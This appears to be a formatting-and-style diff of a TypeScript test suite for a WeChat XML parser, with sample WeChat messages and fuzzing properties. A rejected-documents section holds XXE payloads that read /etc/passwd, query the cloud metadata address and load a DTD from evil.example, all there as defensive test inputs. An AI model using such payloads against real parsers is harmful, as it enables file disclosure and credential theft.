@@ -2,11 +2,8 @@ import fc from 'fast-check';
 import { z } from 'zod';
 import { AppError } from '../domain/errors';
 import {
-  DEFAULT_MAX_XML_BYTES,
-  XmlForbiddenConstructError,
-  XmlParseError,
-  XmlTooLargeError,
   buildWeChatXml,
+  DEFAULT_MAX_XML_BYTES,
   parseAnyDocument,
   parseFlatDocument,
   parseWeChatXml,
@@ -14,6 +11,9 @@ import {
   type WeChatXmlInput,
   type WeChatXmlInputValue,
   type WeChatXmlValue,
+  XmlForbiddenConstructError,
+  XmlParseError,
+  XmlTooLargeError,
 } from './xml';
 
 function thrownBy(fn: () => unknown): unknown {
@@ -49,7 +49,7 @@ describe('parseWeChatXml: documents WeChat sends', () => {
     const fields = parseWeChatXml(
       '<xml><AppId><![CDATA[wx134c8103faa5a59e]]></AppId><CreateTime>1413192760</CreateTime><InfoType><![CDATA[authorized]]></InfoType><AuthorizerAppid><![CDATA[wxba5fad812f8e6fb9]]></AuthorizerAppid><AuthorizationCode><![CDATA[queryauthcode@@@abc]]></AuthorizationCode><AuthorizationCodeExpiredTime>1413196360</AuthorizationCodeExpiredTime><PreAuthCode><![CDATA[preauthcode@@@xyz]]></PreAuthCode></xml>',
     );
-    expect(fields['CreateTime']).toBe('1413192760');
+    expect(fields.CreateTime).toBe('1413192760');
     const schema = z.object({
       InfoType: z.literal('authorized'),
       AuthorizerAppid: z.string(),
@@ -79,13 +79,17 @@ describe('parseWeChatXml: documents WeChat sends', () => {
 
   test('a pretty-printed envelope (reference §1.2): indentation is not content', () => {
     expect(
-      parseWeChatXml('<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n    <ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName>\n    <Encrypt><![CDATA[D7yz+/==]]></Encrypt>\n</xml>\n'),
+      parseWeChatXml(
+        '<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n    <ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName>\n    <Encrypt><![CDATA[D7yz+/==]]></Encrypt>\n</xml>\n',
+      ),
     ).toEqual({ ToUserName: 'gh_97417a04a28d', Encrypt: 'D7yz+/==' });
   });
 
   test('the encrypted reply layout of Tencent’s samples (reference §1.6)', () => {
     expect(
-      parseWeChatXml('<xml>\n<Encrypt><![CDATA[abc]]></Encrypt>\n<MsgSignature><![CDATA[def]]></MsgSignature>\n<TimeStamp>1411525903</TimeStamp>\n<Nonce><![CDATA[461056294]]></Nonce>\n</xml>'),
+      parseWeChatXml(
+        '<xml>\n<Encrypt><![CDATA[abc]]></Encrypt>\n<MsgSignature><![CDATA[def]]></MsgSignature>\n<TimeStamp>1411525903</TimeStamp>\n<Nonce><![CDATA[461056294]]></Nonce>\n</xml>',
+      ),
     ).toEqual({ Encrypt: 'abc', MsgSignature: 'def', TimeStamp: '1411525903', Nonce: '461056294' });
   });
 
@@ -132,16 +136,17 @@ describe('parseWeChatXml: documents WeChat sends', () => {
   test('names that collide with Object.prototype become own properties and touch no prototype', () => {
     const fields = parseWeChatXml('<xml><toString>a</toString><hasOwnProperty>b</hasOwnProperty><valueOf><x>1</x></valueOf></xml>');
     expect(Object.keys(fields)).toEqual(['toString', 'hasOwnProperty', 'valueOf']);
-    expect(fields['toString']).toBe('a');
-    expect(fields['valueOf']).toEqual({ x: '1' });
+    expect(fields.toString).toBe('a');
+    expect(fields.valueOf).toEqual({ x: '1' });
     expect(Object.getPrototypeOf(fields)).toBe(Object.prototype);
-    expect(({} as Record<string, unknown>)['toString']).toBe(Object.prototype.toString);
+    expect(({} as Record<string, unknown>).toString).toBe(Object.prototype.toString);
   });
 });
 
 describe('parseWeChatXml: rejected documents', () => {
   const xxe = {
-    'external entity (file)': '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>',
+    'external entity (file)':
+      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>',
     'external entity (http)': '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><xml><A>&xxe;</A></xml>',
     'parameter entity': '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><xml/>',
     'external DTD': '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>',
@@ -285,9 +290,42 @@ const xmlish = fc
   .array(
     fc.oneof(
       fc.constantFrom(
-        '<xml>', '</xml>', '<xml/>', '<A>', '</A>', '<B/>', '<![CDATA[', ']]>', '<!--', '-->', '<?xml version="1.0"?>', '<?', '?>',
-        '&amp;', '&lt;', '&#x41;', '&#0;', '&', ';', '<!DOCTYPE', '<!ENTITY', '<', '>', '/', '"', "'", '=', ' ', '\n', '\r',
-        '__proto__', 'constructor', 'toString', 'a="1"', '\u0000', '\ud800',
+        '<xml>',
+        '</xml>',
+        '<xml/>',
+        '<A>',
+        '</A>',
+        '<B/>',
+        '<![CDATA[',
+        ']]>',
+        '<!--',
+        '-->',
+        '<?xml version="1.0"?>',
+        '<?',
+        '?>',
+        '&amp;',
+        '&lt;',
+        '&#x41;',
+        '&#0;',
+        '&',
+        ';',
+        '<!DOCTYPE',
+        '<!ENTITY',
+        '<',
+        '>',
+        '/',
+        '"',
+        "'",
+        '=',
+        ' ',
+        '\n',
+        '\r',
+        '__proto__',
+        'constructor',
+        'toString',
+        'a="1"',
+        '\u0000',
+        '\ud800',
       ),
       fc.string({ unit: 'binary', maxLength: 5 }),
     ),
@@ -305,7 +343,9 @@ const xmlSafeString = fc
   .map((s) => s.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '\uFFFD'));
 const nastyString = fc.oneof(
   xmlSafeString,
-  fc.array(fc.constantFrom(']]>', ']]', ']', '>', '<!', '<![CDATA[', '<!DOCTYPE', '&amp;', '&', '\r', '\r\n', ' ', '\t', 'x', '中', '😀')).map((a) => a.join('')),
+  fc
+    .array(fc.constantFrom(']]>', ']]', ']', '>', '<!', '<![CDATA[', '<!DOCTYPE', '&amp;', '&', '\r', '\r\n', ' ', '\t', 'x', '中', '😀'))
+    .map((a) => a.join('')),
 );
 
 const { input: fieldMap } = fc.letrec<{ input: WeChatXmlInput; value: WeChatXmlInputValue }>((tie) => ({
@@ -340,12 +380,17 @@ const emptyToString = (fields: WeChatXmlFields): string | WeChatXmlFields => (Ob
 
 describe('properties', () => {
   test('arbitrary strings either parse or throw one of the typed XML errors', () => {
-    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => parsesOrThrowsTyped(s)), { numRuns: 1000 });
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => parsesOrThrowsTyped(s)),
+      { numRuns: 1000 },
+    );
   });
 
   test('XML-like noise either parses or throws one of the typed XML errors', () => {
     fc.assert(
-      fc.property(xmlish, fc.option(fc.integer({ min: 0, max: 300 }), { nil: undefined }), (s, maxBytes) => parsesOrThrowsTyped(s, maxBytes)),
+      fc.property(xmlish, fc.option(fc.integer({ min: 0, max: 300 }), { nil: undefined }), (s, maxBytes) =>
+        parsesOrThrowsTyped(s, maxBytes),
+      ),
       { numRuns: 3000 },
     );
   });
@@ -390,12 +435,46 @@ describe('properties', () => {
       fc.oneof({ arbitrary: fc.constant(''), weight: 6 }, fc.constantFrom(' ', '\n', '\t', '\r\n', '\ufeff', '<?xml version="1.0"?>')),
       fc.array(
         fc.oneof(
-          { arbitrary: fc.tuple(elementName, nastyString).map(([name, value]) => `<${name}>${value.includes(']]>') ? value : `<![CDATA[${value}]]>`}</${name}>`), weight: 8 },
-          { arbitrary: fc.tuple(elementName, fc.oneof(xmlSafeString, fc.constantFrom(' 1715943329 ', '', '  ', 'a b', '&amp;', 'a]]b', '>'))).map(([name, value]) => `<${name}>${value}</${name}>`), weight: 6 },
+          {
+            arbitrary: fc
+              .tuple(elementName, nastyString)
+              .map(([name, value]) => `<${name}>${value.includes(']]>') ? value : `<![CDATA[${value}]]>`}</${name}>`),
+            weight: 8,
+          },
+          {
+            arbitrary: fc
+              .tuple(elementName, fc.oneof(xmlSafeString, fc.constantFrom(' 1715943329 ', '', '  ', 'a b', '&amp;', 'a]]b', '>')))
+              .map(([name, value]) => `<${name}>${value}</${name}>`),
+            weight: 6,
+          },
           { arbitrary: elementName.map((name) => `<${name}/>`), weight: 2 },
-          fc.constantFrom('<A></B>', '<A/ >', '<A />', '<A b="1">x</A>', '<A><B>x</B></A>', '<!-- c -->', '<A><![CDATA[x]]> </A>', '<A> <![CDATA[x]]></A>',
-            '<A><![CDATA[x]]><![CDATA[y]]></A>', '<A><![CDATA[x]]>&#13;<![CDATA[y]]></A>', '<A>x', '</A>', '<>', '< A>x</ A>', '<xml>y</xml>', '<A>1</A >',
-            '<__proto__>x</__proto__>', '<constructor/>', '<toString>t</toString>', '\n', ' ', '\t', 'stray', '<?pi x?>', '<A>\u00a0x\u00a0</A>'),
+          fc.constantFrom(
+            '<A></B>',
+            '<A/ >',
+            '<A />',
+            '<A b="1">x</A>',
+            '<A><B>x</B></A>',
+            '<!-- c -->',
+            '<A><![CDATA[x]]> </A>',
+            '<A> <![CDATA[x]]></A>',
+            '<A><![CDATA[x]]><![CDATA[y]]></A>',
+            '<A><![CDATA[x]]>&#13;<![CDATA[y]]></A>',
+            '<A>x',
+            '</A>',
+            '<>',
+            '< A>x</ A>',
+            '<xml>y</xml>',
+            '<A>1</A >',
+            '<__proto__>x</__proto__>',
+            '<constructor/>',
+            '<toString>t</toString>',
+            '\n',
+            ' ',
+            '\t',
+            'stray',
+            '<?pi x?>',
+            '<A>\u00a0x\u00a0</A>',
+          ),
         ),
         { maxLength: 8 },
       ),
@@ -416,14 +495,30 @@ describe('properties', () => {
   });
 
   test('the flat fast path agrees with the general parser on built documents and on noise', () => {
-    fc.assert(fc.property(fc.dictionary(elementName, nastyString, { maxKeys: 8 }), (fields) => void agreesWithGeneralParser(buildWeChatXml(fields))), { numRuns: 1000 });
-    fc.assert(fc.property(xmlish, (xml) => void agreesWithGeneralParser(xml)), { numRuns: 3000 });
+    fc.assert(
+      fc.property(
+        fc.dictionary(elementName, nastyString, { maxKeys: 8 }),
+        (fields) => void agreesWithGeneralParser(buildWeChatXml(fields)),
+      ),
+      { numRuns: 1000 },
+    );
+    fc.assert(
+      fc.property(xmlish, (xml) => void agreesWithGeneralParser(xml)),
+      { numRuns: 3000 },
+    );
   });
 
   test('the fast path takes the documents WeChat actually sends', () => {
     const envelope = '<xml>\n<ToUserName><![CDATA[wx570bc396a51b8ff8]]></ToUserName>\n<Encrypt><![CDATA[abc+/=]]></Encrypt>\n</xml>';
     expect(parseFlatDocument(envelope)).toEqual({ ToUserName: 'wx570bc396a51b8ff8', Encrypt: 'abc+/=' });
-    const audit = '<xml><ToUserName><![CDATA[gh_fd189404d989]]></ToUserName><CreateTime>1488856741</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[weapp_audit_success]]></Event><SuccTime>1488856741</SuccTime></xml>';
-    expect(parseFlatDocument(audit)).toEqual({ ToUserName: 'gh_fd189404d989', CreateTime: '1488856741', MsgType: 'event', Event: 'weapp_audit_success', SuccTime: '1488856741' });
+    const audit =
+      '<xml><ToUserName><![CDATA[gh_fd189404d989]]></ToUserName><CreateTime>1488856741</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[weapp_audit_success]]></Event><SuccTime>1488856741</SuccTime></xml>';
+    expect(parseFlatDocument(audit)).toEqual({
+      ToUserName: 'gh_fd189404d989',
+      CreateTime: '1488856741',
+      MsgType: 'event',
+      Event: 'weapp_audit_success',
+      SuccTime: '1488856741',
+    });
   });
 });
